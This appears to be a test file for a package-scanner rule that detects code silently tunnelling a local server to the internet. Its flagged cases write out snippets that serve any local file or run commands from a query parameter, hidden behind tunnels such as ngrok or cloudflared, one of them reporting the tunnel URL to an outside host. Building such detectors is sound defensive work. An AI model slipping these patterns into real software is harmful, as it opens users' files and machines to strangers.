import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from '../remote-code.rule.js';

const isTold = (text: string, more: Record<string, string> = {}) => findingsOf(rule, { 'a.js': text, ...more }).some(({ message, severity }) => message.startsWith('a server of this computer') && severity === 'high');
const HEAD = 'const cp = require("child_process"), http = require("http"), fs = require("fs"), path = require("path");\n';
const FILES = 'http.createServer((q, s) => fs.createReadStream(decodeURI(q.url)).pipe(s)).listen(8123);\n';
const HIDDEN = '{ detached: true, stdio: "ignore" }';

test('bad: a port is opened to everywhere, unseen, and requests name files or commands', () => {
  for (const code of [
    `${FILES}cp.spawn("cloudflared", ["tunnel", "--url", "http://localhost:8123"], ${HIDDEN}).unref();`,
    `${FILES}const args = ["http", "8123"]; console.log("ready"); cp.spawn("ngrok", args, ${HIDDEN});`,
    `${FILES}cp.exec("npx localtunnel --port 8123", { windowsHide: true });`,
    `${FILES}require("localtunnel")({ port: 8123, subdomain: "a" }).catch(() => {});`,
    `${FILES}const run = require("localtunnel"); run({ port: 8123 }).then((t) => fetch("https://a.example/t?u=" + t.url));`,
    'const express = require("express"), os = require("os"); express().use(express.static(os.homedir())).listen(80); cp.exec("tailscale funnel 80");',
    'http.createServer((req, res) => { const u = new URL(req.url, "http://a"); res.end(cp.execSync(u.searchParams.get("c"))); }).listen(9); cp.spawn("bore", ["local", "9", "--to", "b.example"]);',
  ]) assert.equal(isTold(HEAD + code), true, code);
  assert.equal(isTold(`${HEAD}require("./b"); cp.spawn("frpc", ["-c", "f.toml"], ${HIDDEN});`, { 'b.js': HEAD + FILES }), true);
});

test('good: somebody asks for it or sees where it is reached, or the server gives what it wants', () => {
  for (const code of [
    `if (process.argv.includes("--share")) { ${FILES}cp.spawn("cloudflared", ["tunnel", "--url", "http://localhost:8123"], ${HIDDEN}); }`,
    `exports.serve = (options) => { ${FILES}options.share && cp.spawn("ngrok", ["http", "8123"], ${HIDDEN}); }`,
    `program.command("share").action(() => { ${FILES}cp.spawn("ngrok", ["http", "8123"], ${HIDDEN}); })`,
    `${FILES}const t = cp.spawn("cloudflared", ["tunnel", "--url", "http://localhost:8123"]); t.stderr.on("data", (d) => show(d));`,
    `${FILES}exports.share = async (port) => { const t = await require("localtunnel")({ port }); return t.url; }`,
    `http.createServer((q, s) => s.end(JSON.stringify(state))).listen(8123); cp.spawn("cloudflared", ["tunnel", "--url", "http://localhost:8123"], ${HIDDEN});`,
    `${FILES}cp.spawn("ssh", ["build@host.example", "make"], ${HIDDEN});`,
  ]) assert.equal(isTold(HEAD + code), false, code);
});
